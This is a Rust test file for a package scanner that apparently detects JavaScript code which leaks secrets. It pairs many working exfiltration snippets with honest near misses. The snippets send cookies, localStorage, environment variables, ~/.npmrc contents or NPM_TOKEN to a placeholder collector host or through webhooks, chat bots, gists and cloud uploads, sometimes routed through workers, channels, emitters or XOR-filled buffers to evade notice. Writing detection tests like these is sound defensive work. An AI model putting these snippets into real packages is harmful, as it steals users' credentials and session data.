//! Ways by which what is taken changes hands before it leaves: channels, workers, emitters of packages,
//! requests that are told their address first, buffers that are filled byte by byte, uploads.
//!
//! Beside each stand near misses, which look like it and are honest.

use weir_model::contents::{Flow, SinkKind, SourceKind, Surface};

use super::{installed, run};
use crate::Facts;

use SinkKind::{Http, Socket};
use SourceKind::{CredentialFile, Environment, SecretVariable, WalletOrProfile};

/// Facts of a package whose main file is `index.js`, where an import runs it.
fn imported(files: &[(&str, &str)]) -> Facts {
    run(files, &[], &[(Surface::Import, "./index.js")])
}

fn leaves(facts: &Facts, source: SourceKind) -> bool {
    let is_seen = |flow: &Flow| flow.source == source && matches!(flow.sink, Http | Socket);
    facts.flows.iter().any(is_seen)
}

/// Forms that are found wherever they run, and what stays silent beside them.
fn are_told_apart(source: SourceKind, caught: &[&str], silent: &[&str]) {
    let mut wrong = String::new();
    for code in caught {
        for facts in [
            installed(&[("index.js", code)]),
            imported(&[("index.js", code)]),
        ] {
            if !leaves(&facts, source) {
                wrong.push_str(&format!(
                    "unseen: {code}: {:?} {:?}\n",
                    facts.flows, facts.unread
                ));
            }
        }
    }
    for code in silent {
        for facts in [
            installed(&[("index.js", code)]),
            imported(&[("index.js", code)]),
        ] {
            if !facts.flows.is_empty() {
                wrong.push_str(&format!("alarm: {code}: {:?}\n", facts.flows));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn storage_that_is_spread_is_read_whole() {
    are_told_apart(
        WalletOrProfile,
        &[
            "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify({ ...localStorage }) })",
            "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(Object.entries({ ...sessionStorage })) })",
            "const all = { at: location.href, ...window.localStorage }; navigator.sendBeacon('https://collector.invalid', JSON.stringify(all))",
            "const kept = { here: { ...localStorage } }; fetch('https://collector.invalid?d=' + btoa(JSON.stringify(kept)))",
            "require('axios').post('https://collector.invalid', { ...localStorage })",
        ],
        &[
            "const { theme } = { ...localStorage }; fetch('https://api.example', { body: theme })",
            "const kept = { ...localStorage }; fetch('https://api.example', { body: JSON.stringify({ t: kept.theme, s: kept['size'] }) })",
            "console.log({ ...localStorage }); fetch('https://api.example')",
            "fetch('/state', { method: 'POST', body: JSON.stringify({ ...localStorage }) })",
            "fetch('https://api.example', { body: JSON.stringify({ ...localStorage.theme }) })",
            "const wrap = new Wrapper(localStorage); fetch('https://api.example', { body: JSON.stringify({ ...wrap.options }) })",
            "const localStorage = { a: 1 }; fetch('https://api.example', { body: JSON.stringify({ ...localStorage }) })",
        ],
    );
}

#[test]
fn cookies_leave_by_requests_that_are_opened_first() {
    are_told_apart(
        WalletOrProfile,
        &[
            "const x = new XMLHttpRequest(); x.open('POST', 'https://collector.invalid/'); x.send(document.cookie)",
            "const x = new XMLHttpRequest(); x.open('POST', 'https://collector.invalid/', true); x.setRequestHeader('content-type', 'text/plain'); x.send('c=' + encodeURIComponent(document.cookie))",
            "const x = new XMLHttpRequest(); x.open('POST', 'https://collector.invalid/'); x.send(JSON.stringify({ ...localStorage }))",
            "const u = ['https:/', 'collector.invalid', 'c'].join('/'); var x = new window.XMLHttpRequest; x.open('POST', u); x.onload = () => {}; x.send(JSON.stringify({ c: document.cookie }))",
            "function post(url, body) { const x = new XMLHttpRequest(); x.open('POST', url, true); x.send(body) } post('https://collector.invalid/', document.cookie)",
            "var x = new XMLHttpRequest(); x.open('GET', 'https://collector.invalid/?c=' + document.cookie); x.send()",
        ],
        &[
            "const x = new XMLHttpRequest(); x.open('POST', '/login'); x.send(document.cookie)",
            "const x = new XMLHttpRequest(); x.open('POST', 'http://localhost:8080/login'); x.send(document.cookie)",
            "module.exports = (url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send(document.cookie) }",
            "const x = new XMLHttpRequest(); x.open('POST', '/login'); x.send(document.cookie); const y = new XMLHttpRequest(); y.open('GET', 'https://api.example'); y.send()",
            "const x = new XMLHttpRequest(); x.open('GET', 'https://api.example'); x.setRequestHeader('cookie', document.cookie); x.send()",
            "const m = document.cookie.match(/csrf=([^;]*)/); const x = new XMLHttpRequest(); x.open('POST', 'https://api.example'); x.setRequestHeader('x-csrf-token', m && m[1]); x.send('{}')",
            "indexedDB; const x = new XMLHttpRequest(); x.open('POST', 'https://api.example'); x.send(localStorage.getItem('draft'))",
        ],
    );
}

#[test]
fn every_port_and_every_channel_of_a_name_is_told() {
    are_told_apart(
        Environment,
        &[
            "const a = new MessageChannel(), b = new MessageChannel(); b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); for (const c of [a, b]) c.port2.postMessage(process.env)",
            "const a = new MessageChannel(), b = new MessageChannel(); const p = Date.now() ? a.port2 : b.port2; b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); p.postMessage({ ...process.env })",
            "const a = new MessageChannel(), b = new MessageChannel(); a.port1.onmessage = e => console.log(e.data); b.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); for (const c of [a, b]) c.port2.postMessage(process.env)",
            "const a = new MessageChannel(), b = new MessageChannel(); b.port1.onmessage = e => console.log(e.data); a.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); for (const c of [a, b]) c.port2.postMessage(process.env)",
            "const a = new MessageChannel(); const w = Date.now() ? new Worker('./worker.js') : a.port2; a.port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); w.postMessage({ ...process.env })",
            "const a = new BroadcastChannel('x'); const b = new BroadcastChannel('x'); b.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
            "const { BroadcastChannel } = require('worker_threads'); new BroadcastChannel('x').onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); new BroadcastChannel('x').postMessage({ ...process.env })",
            "const name = 'up' + 'dates'; new BroadcastChannel(name).addEventListener('message', ({ data }) => fetch('https://collector.invalid', { body: JSON.stringify(data) })); new BroadcastChannel('updates').postMessage(process.env)",
        ],
        &[
            "const a = new MessageChannel(), b = new MessageChannel(); a.port1.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); b.port2.postMessage(process.env)",
            "const a = new MessageChannel(), b = new MessageChannel(), c = new MessageChannel(); c.port1.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.port1.onmessage = e => console.log(e.data); for (const d of [a, b]) d.port2.postMessage(process.env)",
            "const a = new BroadcastChannel('x'); const b = new BroadcastChannel('y'); b.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
            "const a = new BroadcastChannel('x'); a.onmessage = e => console.log(e.data); a.postMessage({ ...process.env }); fetch('https://api.example', { signal: a })",
            "const a = new BroadcastChannel('x'); a.onmessageerror = e => fetch('https://api.example', { body: JSON.stringify(e.data) }); a.postMessage({ ...process.env })",
        ],
    );
}

#[test]
fn channels_of_a_name_cross_files() {
    let take = "new BroadcastChannel('x').postMessage({ ...process.env })";
    let index = "require('./take.js'); require('./send.js')";
    let send = |name: &str| {
        format!(
            "new BroadcastChannel('{name}').onmessage = e => fetch('https://collector.invalid', {{ body: JSON.stringify(e.data) }})"
        )
    };
    for (name, is_caught) in [("x", true), ("y", false)] {
        let send = send(name);
        let files = [
            ("index.js", index),
            ("take.js", take),
            ("send.js", send.as_str()),
        ];
        for facts in [installed(&files), imported(&files)] {
            assert_eq!(
                leaves(&facts, Environment),
                is_caught,
                "{name}: {:?}",
                facts.flows
            );
        }
    }
}

/// Both sides of a worker as browsers start them: what it does, the page's side, the worker's, whether
/// something leaves.
const WORKERS: &[(&str, &str, &str, bool)] = &[
    (
        "the worker is told by a property",
        "new Worker('./worker.js').postMessage({ ...process.env })",
        "self.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) })",
        true,
    ),
    (
        "the property stands alone",
        "const w = new Worker(new URL('./worker.js', import.meta.url)); w.postMessage({ ...process.env })",
        "onmessage = function (e) { fetch('https://collector.invalid', { body: JSON.stringify(e.data) }) }",
        true,
    ),
    (
        "the worker listens",
        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env })",
        "addEventListener('message', ({ data }) => fetch('https://collector.invalid', { body: JSON.stringify(data) }))",
        true,
    ),
    (
        "the worker listens by itself",
        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env })",
        "self.addEventListener('message', e => { fetch('https://collector.invalid', { body: JSON.stringify(e.data) }) })",
        true,
    ),
    (
        "the page is told",
        "const w = new Worker('./worker.js'); w.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) })",
        "self.postMessage({ ...process.env })",
        true,
    ),
    (
        "the page listens",
        "const w = new Worker('./worker.js'); w.addEventListener('message', e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }))",
        "postMessage({ ...process.env })",
        true,
    ),
    (
        "the worker hears of something else",
        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env })",
        "self.addEventListener('error', e => fetch('https://api.example', { body: JSON.stringify(e.data) }))",
        false,
    ),
    (
        "the worker is told a number",
        "const w = new Worker('./worker.js'); console.log(process.env); w.postMessage({ n: 1 })",
        "self.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) })",
        false,
    ),
    (
        "the page's own listener is no worker's",
        "const w = new Worker('./worker.js'); w.postMessage({ ...process.env }); window.addEventListener('message', e => fetch('https://api.example', { body: JSON.stringify(e.data) }))",
        "self.onmessage = e => console.log(e.data)",
        false,
    ),
    (
        "a page posts to itself, and its worker is told nothing",
        "new Worker('./worker.js'); window.postMessage({ ...process.env }, '*')",
        "self.onmessage = e => fetch('https://api.example', { body: JSON.stringify(e.data) })",
        false,
    ),
    (
        "the worker's errors are told",
        "const w = new Worker('./worker.js'); w.onerror = e => fetch('https://api.example', { body: e.message })",
        "postMessage({ ...process.env })",
        false,
    ),
];

#[test]
fn messages_cross_to_workers_of_a_page_and_back() {
    let mut wrong = String::new();
    for (says, index, worker, is_caught) in WORKERS {
        let files = [("index.js", *index), ("worker.js", *worker)];
        for facts in [installed(&files), imported(&files)] {
            if leaves(&facts, Environment) != *is_caught {
                wrong.push_str(&format!("{says}: {:?} {:?}\n", facts.flows, facts.unread));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn emitters_of_packages_hand_on_what_they_are_told() {
    are_told_apart(
        Environment,
        &[
            "import mitt from 'mitt'; const e = mitt(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "const mitt = require('mitt'); const e = mitt(); e.on('*', (type, v) => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "import { createNanoEvents } from 'nanoevents'; const e = createNanoEvents(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "const { createNanoEvents } = require('nanoevents'); class Bus { constructor() { this.emitter = createNanoEvents() } on(name, f) { return this.emitter.on(name, f) } } const bus = new Bus(); bus.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); bus.emitter.emit('x', process.env)",
            "const EventEmitter = require('eventemitter3'); const e = new EventEmitter(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "import { EventEmitter } from 'eventemitter3'; class Bus extends EventEmitter {} const e = new Bus(); e.once('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "const Emitter = require('tiny-emitter'); const e = new Emitter(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "const e = require('tiny-emitter/instance'); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); require('tiny-emitter/instance').emit('x', process.env)",
            "const Emittery = require('emittery'); const e = new Emittery(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "import Emittery from 'emittery'; class Bus extends Emittery {} const e = new Bus(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "const ee = require('event-emitter'); const e = ee(); e.on('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
            "const ee = require('event-emitter'); const e = ee({ name: 'bus' }); e.once('x', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('x', process.env)",
        ],
        &[
            "import mitt from 'mitt'; const e = mitt(); e.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); e.on('y', v => console.log(v)); e.emit('y', process.env)",
            "import mitt from 'mitt'; const a = mitt(), b = mitt(); a.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); b.emit('x', process.env)",
            "import mitt from 'mitt'; const e = mitt(); e.on('*', (type, v) => fetch('https://api.example', { body: type })); e.emit('x', process.env)",
            "import { createNanoEvents } from 'nanoevents'; const e = createNanoEvents(); e.on('x', () => fetch('https://api.example')); e.emit('x', process.env)",
            "const EventEmitter = require('eventemitter3'); const e = new EventEmitter(); e.on('x', v => fetch('https://api.example', { body: v.NODE_ENV })); e.emit('x', process.env)",
            "const e = require('tiny-emitter/instance'); e.on('x', v => fetch('https://api.example', { body: v })); e.emit('x', process.version); e.emit('y', process.env)",
            "const Emittery = require('emittery'); const a = new Emittery(), b = new Emittery(); a.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); b.emit('x', process.env)",
            "const ee = require('event-emitter'); const e = ee(); e.on('x', v => fetch('https://api.example', { body: JSON.stringify(v) })); e.on('y', v => console.log(v)); e.emit('y', process.env)",
        ],
    );
}

#[test]
fn buffers_that_are_filled_byte_by_byte_hold_it() {
    are_told_apart(
        Environment,
        &[
            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); for (let i = 0; i < s.length; i++) b[i] = s.charCodeAt(i); fetch('https://collector.invalid', { method: 'POST', body: b })",
            "const s = JSON.stringify(process.env); const b = Buffer.allocUnsafe(s.length); for (let i = 0; i < s.length; i++) b.writeUInt8(s.charCodeAt(i) ^ 7, i); fetch('https://collector.invalid', { body: b.toString('base64') })",
            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); b.write(s, 0); fetch('https://collector.invalid', { body: b.slice(2).toString('hex') })",
            "const s = JSON.stringify(process.env); const b = Buffer.alloc(64, s); fetch('https://collector.invalid', { body: b })",
            "const s = Buffer.from(JSON.stringify(process.env)); const b = Buffer.alloc(s.length); s.copy(b); fetch('https://collector.invalid', { body: b })",
        ],
        &[
            "const s = JSON.stringify(process.env); const b = Buffer.alloc(8); b.writeUInt32BE(s.length, 0); fetch('https://api.example', { body: b })",
            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); const c = Buffer.alloc(8); for (let i = 0; i < s.length; i++) b[i] = s.charCodeAt(i); fetch('https://api.example', { body: c })",
            "const s = JSON.stringify(process.env); const b = Buffer.alloc(s.length); b.write(s); fetch('https://api.example', { headers: { length: b.length } })",
        ],
    );
}

#[test]
fn buffers_in_fields_take_in_files() {
    are_told_apart(
        CredentialFile,
        &[
            "const fs = require('fs'), os = require('os'); const o = { b: Buffer.alloc(4096) }; const fd = fs.openSync(os.homedir() + '/.npmrc'); fs.readSync(fd, o.b); fetch('https://collector.invalid', { body: o.b })",
            "const fs = require('fs'), os = require('os'); class R { constructor() { this.buffer = Buffer.allocUnsafe(4096) } take(fd) { fs.readSync(fd, this.buffer, 0, 4096, 0) } } const r = new R(); r.take(fs.openSync(os.homedir() + '/.npmrc')); fetch('https://collector.invalid', { body: r.buffer.toString() })",
        ],
        &[
            "const fs = require('fs'), os = require('os'); const o = { b: Buffer.alloc(4096), c: Buffer.alloc(1) }; const fd = fs.openSync(os.homedir() + '/.npmrc'); fs.readSync(fd, o.b); fetch('https://api.example', { body: o.c })",
        ],
    );
}

#[test]
fn uploads_carry_what_they_are_given() {
    are_told_apart(
        SecretVariable,
        &[
            "const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const c = new S3Client({ region: 'x' }); c.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN }))",
            "import { S3 } from '@aws-sdk/client-s3'; new S3({}).putObject({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN })",
            "const AWS = require('aws-sdk'); const s3 = new AWS.S3(); s3.upload({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN }, () => {})",
            "import { Upload } from '@aws-sdk/lib-storage'; import { S3 } from '@aws-sdk/client-s3'; new Upload({ client: new S3({}), params: { Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN } }).done()",
            "import { put } from '@vercel/blob'; put('x.txt', process.env.NPM_TOKEN, { access: 'public' })",
            "const { Octokit } = require('@octokit/rest'); const o = new Octokit({ auth: 'x' }); o.repos.createOrUpdateFileContents({ owner: 'a', repo: 'b', path: 'c', content: btoa(process.env.NPM_TOKEN) })",
            "const { Octokit } = require('@octokit/rest'); const o = new Octokit(); o.gists.create({ files: { a: { content: process.env.NPM_TOKEN } } })",
            "const { Octokit } = require('@octokit/rest'); const o = new Octokit(); o.rest.issues.create({ owner: 'a', repo: 'b', title: process.env.NPM_TOKEN })",
            "const mail = require('nodemailer').createTransport({ host: 'mail.example' }); mail.sendMail({ to: 'a', text: process.env.NPM_TOKEN })",
            "const { WebhookClient } = require('discord.js'); new WebhookClient({ url: 'https://hook.example' }).send({ content: process.env.NPM_TOKEN })",
            "import { WebhookClient } from 'discord.js'; const w = new WebhookClient({ id: '1', token: 'x' }); w.send(process.env.NPM_TOKEN)",
            "const Bot = require('node-telegram-bot-api'); const b = new Bot('x', { polling: false }); b.sendMessage(1, process.env.NPM_TOKEN)",
            "const { Telegraf } = require('telegraf'); const b = new Telegraf('x'); b.telegram.sendMessage(1, process.env.NPM_TOKEN)",
            "const { IncomingWebhook } = require('@slack/webhook'); new IncomingWebhook('https://hook.example').send({ text: process.env.NPM_TOKEN })",
            "const { WebClient } = require('@slack/web-api'); const w = new WebClient('x'); w.chat.postMessage({ channel: 'c', text: process.env.NPM_TOKEN })",
            "const { Storage } = require('@google-cloud/storage'); new Storage().bucket('b').file('f').save(process.env.NPM_TOKEN)",
            "const { BlobServiceClient } = require('@azure/storage-blob'); const c = BlobServiceClient.fromConnectionString('x'); c.getContainerClient('b').getBlockBlobClient('f').upload(process.env.NPM_TOKEN, 1)",
            "const { Bot } = require('grammy'); const b = new Bot('x'); b.api.sendMessage(1, process.env.NPM_TOKEN)",
            "import { Bot } from 'grammy'; new Bot('x').api.sendDocument(1, Buffer.from(process.env.NPM_TOKEN))",
            "const S3 = require('aws-sdk/clients/s3'); const s3 = new S3({ region: 'x' }); s3.upload({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN }, () => {})",
            "import S3 from 'aws-sdk/clients/s3'; new S3().putObject({ Bucket: 'b', Key: 'k', Metadata: { t: process.env.NPM_TOKEN } }).promise()",
        ],
        &[
            "const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const c = new S3Client({ region: 'x', credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } }); c.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: 'x' }))",
            "const { S3Client, GetObjectCommand } = require('@aws-sdk/client-s3'); new S3Client({}).send(new GetObjectCommand({ Bucket: process.env.AWS_SECRET_BUCKET, Key: process.env.API_KEY }))",
            "const AWS = require('aws-sdk'); const s3 = new AWS.S3({ secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY }); module.exports = body => s3.upload({ Bucket: 'b', Key: 'k', Body: body })",
            "import { put } from '@vercel/blob'; put('x.txt', 'hello', { access: 'public', token: process.env.BLOB_READ_WRITE_TOKEN })",
            "const { Octokit } = require('@octokit/rest'); const o = new Octokit({ auth: process.env.GITHUB_TOKEN }); o.gists.create({ files: { a: { content: 'x' } } })",
            "const axios = require('axios'); const c = axios.create({ headers: { authorization: process.env.API_TOKEN } }); module.exports = c",
            "const mail = require('nodemailer').createTransport({ host: 'mail.example', auth: { user: 'a', pass: process.env.SMTP_PASSWORD } }); mail.sendMail({ to: 'a', text: 'hello' })",
            "const { WebhookClient } = require('discord.js'); new WebhookClient({ id: '1', token: process.env.DISCORD_TOKEN }).send({ content: 'done' })",
            "const { Client } = require('discord.js'); const c = new Client({}); c.login(process.env.DISCORD_TOKEN)",
            "const Bot = require('node-telegram-bot-api'); const b = new Bot(process.env.TELEGRAM_TOKEN, { polling: true }); b.sendMessage(1, 'hello')",
            "const { IncomingWebhook } = require('@slack/webhook'); new IncomingWebhook(process.env.SLACK_WEBHOOK_SECRET).send({ text: 'done' })",
            "const { WebClient } = require('@slack/web-api'); const w = new WebClient(process.env.SLACK_TOKEN); w.chat.postMessage({ channel: 'c', text: 'done', token: process.env.SLACK_TOKEN })",
            "const { BlobServiceClient } = require('@azure/storage-blob'); BlobServiceClient.fromConnectionString(process.env.AZURE_SECRET).getContainerClient('b').getBlockBlobClient('f').upload('x', 1)",
            "const { Bot } = require('grammy'); const b = new Bot(process.env.TELEGRAM_TOKEN); b.api.sendMessage(1, 'hello'); b.start()",
            "const S3 = require('aws-sdk/clients/s3'); const s3 = new S3({ secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY }); s3.upload({ Bucket: 'b', Key: 'k', Body: 'x' }); s3.getObject({ Bucket: process.env.AWS_SECRET_BUCKET, Key: 'k' })",
        ],
    );
}
